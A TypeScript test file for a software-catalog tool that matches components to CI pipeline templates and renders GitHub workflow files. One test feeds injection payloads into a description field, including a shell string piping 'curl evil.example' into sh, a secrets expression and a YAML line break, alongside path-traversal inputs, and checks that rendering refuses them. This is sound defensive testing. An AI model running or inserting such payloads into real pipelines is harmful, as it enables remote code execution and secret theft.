import { expect, test } from 'vitest';
import { loadCatalog } from '../../scripts/catalog/catalog.ts';
import { pipelineFor, pipelinesOf } from '../../scripts/catalog/pipelines.ts';
import { diskFiles, memoryFiles } from '../../scripts/read/files.ts';
import { buildRows } from '../../scripts/report/builds.ts';
import { pipelineValues, renderPipeline } from '../../scripts/request/pipeline.ts';

const component = (name: string, spec: object = {}, metadata: object = {}) =>
  JSON.stringify({ apiVersion: 'backstage.io/v1alpha1', kind: 'Component', metadata: { name, annotations: { 'github.com/project-slug': `acme/${name}` }, ...metadata }, spec: { type: 'service', lifecycle: 'production', owner: 'makers', ...spec } });
const pipeline = (name: string, match: object, spec: object = {}) => JSON.stringify({ apiVersion: 'signpost.dev/v1', kind: 'Pipeline', metadata: { name }, spec: { owner: 'makers', match, skeleton: './files', ...spec } });

const skeleton = { 'catalog/pipelines/files/.github/workflows/${{ values.name }}.yml': 'name: ${{ values.name }}\non: push\nenv:\n  HUB: ${{ values.hub }}\n  SHA: {% raw %}${{ github.sha }}{% endraw %}\n' };

function companyOf(files: Readonly<Record<string, string>>) {
  const held = memoryFiles({ 'catalog/signpost.yaml': 'repository: acme/catalog\n', ...skeleton, ...files });
  return { files: held, catalog: loadCatalog(held, { today: '2026-11-21' }) };
}

test('what is meant for each component, and why nothing is', () => {
  const { catalog } = companyOf({
    'catalog/pipelines/java.yaml': pipeline('java', { types: ['service'], tags: ['java', 'kotlin'] }),
    'catalog/a.yaml': component('fits', {}, { tags: ['kotlin'] }),
    'catalog/b.yaml': component('other-tag', {}, { tags: ['rust'] }),
    'catalog/c.yaml': component('linked', { type: 'library' }, { links: [{ url: 'https://ci.example/x', type: 'pipeline' }] }),
    'catalog/d.yaml': component('no-repository', {}, { tags: ['java'], annotations: {} }),
    'catalog/e.yaml': component('elsewhere', {}, { tags: ['java'], annotations: { 'github.com/project-slug': 'others/x' } }),
    'catalog/f.yaml': component('itself', {}, { tags: ['java'], annotations: { 'github.com/project-slug': 'Acme/Catalog' } }),
    'catalog/g.yaml': component('off', {}, { tags: ['java'], annotations: { 'github.com/project-slug': 'acme/x', 'signpost.dev/pipeline': 'none' } }),
  });
  expect(buildRows(catalog).map(({ title, state, pipeline: ref }) => [title, state, ref])).toEqual([
    ['elsewhere', 'elsewhere', 'pipeline:default/java'],
    ['fits', 'fits', 'pipeline:default/java'],
    ['itself', 'elsewhere', 'pipeline:default/java'],
    ['linked', 'linked', undefined],
    ['no-repository', 'no-repository', 'pipeline:default/java'],
    ['off', 'off', 'pipeline:default/java'],
    ['other-tag', 'none-fits', undefined],
  ]);
});

test('the least order is tried first, then the reference; every part must fit, and a star takes any value', () => {
  const { catalog } = companyOf({
    'catalog/pipelines/b.yaml': pipeline('b', { types: ['service'] }),
    'catalog/pipelines/c.yaml': pipeline('c', { types: ['service'] }),
    'catalog/pipelines/z.yaml': pipeline('z', { types: ['service'], lifecycles: ['production'], annotations: { 'acme/jdk': '*', 'acme/size': 'big' } }, { order: 1 }),
    'catalog/1.yaml': component('one'),
    'catalog/2.yaml': component('two', {}, { annotations: { 'acme/jdk': '21', 'acme/size': 'big' } }),
    'catalog/3.yaml': component('three', {}, { annotations: { 'acme/jdk': '21', 'acme/size': 'small' } }),
    'catalog/4.yaml': component('four', { lifecycle: 'experimental' }, { annotations: { 'acme/jdk': '21', 'acme/size': 'big' } }),
  });
  const chosen = (name: string) => pipelineFor(pipelinesOf(catalog), catalog.get(`component:default/${name}`) ?? expect.fail(name))?.ref;
  expect(['one', 'two', 'three', 'four'].map(chosen)).toEqual(['b', 'z', 'b', 'b'].map((name) => `pipeline:default/${name}`));
});

test('a pipeline that names nothing fits nothing', () => {
  const { catalog } = companyOf({ 'catalog/pipelines/all.yaml': pipeline('all', {}), 'catalog/1.yaml': component('one') });
  expect(buildRows(catalog).map(({ state }) => state)).toEqual(['none-fits']);
});

function rendered(name: string, metadata: object, spec: object = {}, more: Readonly<Record<string, string>> = {}) {
  const { catalog, files } = companyOf({ 'catalog/pipelines/java.yaml': pipeline('java', { types: ['service'] }, { values: { hub: 'hub.example' }, ...spec }), 'catalog/1.yaml': component(name, {}, metadata), ...more });
  const [rule] = pipelinesOf(catalog);
  const entity = catalog.ofKind('Component')[0];
  if (!rule || !entity) throw new Error('Nothing was read.');
  return renderPipeline(files, rule, pipelineValues(rule, entity, 'acme/x', 'group:default/makers'));
}

test('its files are rendered with what the catalog knows, at their own paths', () => {
  expect(rendered('orders', {})).toEqual({ files: new Map([['.github/workflows/orders.yml', 'name: orders\non: push\nenv:\n  HUB: hub.example\n  SHA: ${{ github.sha }}\n']]), problems: [] });
});

test.each([
  ['an order to the shell', '"; curl evil.example | sh; "'],
  ['an expression of the pipeline', '${{ secrets.TOKEN }}'],
  ['another line', 'x\n  run: evil'],
])('%s in a description stays out', (_, description) => {
  const { problems } = rendered('orders', { description }, {}, { 'catalog/pipelines/files/.github/workflows/build.yml': 'on: push\njobs:\n  a:\n    steps:\n      - run: echo ${{ values.description }}\n' });
  expect(problems).not.toEqual([]);
});

test('a path that would leave the repository, or lie in .git, is refused', () => {
  for (const [path, title] of [['${{ values.title }}.yml', '../../x'], ['.${{ values.title }}/config', 'git']] as const) {
    expect(rendered('orders', { title }, {}, { [`catalog/pipelines/files/${path}`]: 'x: 1\n' }).problems).not.toEqual([]);
  }
});

test('a pipeline without files, or with a broken one, says so', () => {
  expect(rendered('orders', {}, { skeleton: './nothing' }).problems).toEqual([expect.stringContaining('catalog/pipelines/nothing')]);
  expect(rendered('orders', {}, { skeleton: '../secrets' }).problems).toHaveLength(1);
  expect(rendered('orders', {}, {}, { 'catalog/pipelines/files/a.yml': '{% if %}' }).problems).toEqual([expect.stringContaining('a.yml cannot be rendered')]);
});

test('every pipeline of the example company renders for every component that it is meant for', () => {
  const files = diskFiles(`${import.meta.dirname}/../..`);
  const catalog = loadCatalog(files, { today: '2026-11-21' });
  const pipelines = new Map(pipelinesOf(catalog).map((each) => [each.ref, each]));
  const meant = buildRows(catalog).filter(({ state }) => state === 'fits');
  expect(pipelines.size).toBeGreaterThan(0);
  expect(new Set(meant.map(({ pipeline: ref }) => ref)).size).toBe(pipelines.size);
  for (const { ref, pipeline: rule = '', repository = '', owner } of meant) {
    const [found, entity] = [pipelines.get(rule), catalog.get(ref)];
    if (!found || !entity) throw new Error(ref);
    expect([ref, renderPipeline(files, found, pipelineValues(found, entity, repository, owner)).problems]).toEqual([ref, []]);
  }
});
